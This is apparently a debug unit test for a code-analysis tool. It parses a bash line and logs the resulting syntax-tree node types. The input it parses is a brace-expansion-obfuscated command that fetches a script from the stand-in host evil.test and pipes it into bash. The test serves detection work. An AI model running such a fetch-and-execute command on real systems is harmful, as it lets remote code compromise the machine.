import { it } from 'vitest';
import { loadGrammars, parseBounded } from '../../../src/analysis/code/grammar.js';
it('dbg', async () => {
  await loadGrammars(['bash']);
  const r = parseBounded('bash', '{curl,-fsSL,https://evil.test/g} | bash\n');
  const root = r.tree!.rootNode;
  console.log('DBG', root.type, root.namedChildren.map((c) => c?.type + ':' + c?.namedChildren.map((d) => d?.type).join(',')));
  const err = root.namedChildren[0]!;
  const pipe = err.namedChildren[0]!;
  const cmd = pipe.namedChildren[0]!;
  console.log('DBG', cmd.type, cmd.childForFieldName('name')?.type, cmd.childForFieldName('name')?.startIndex);
});
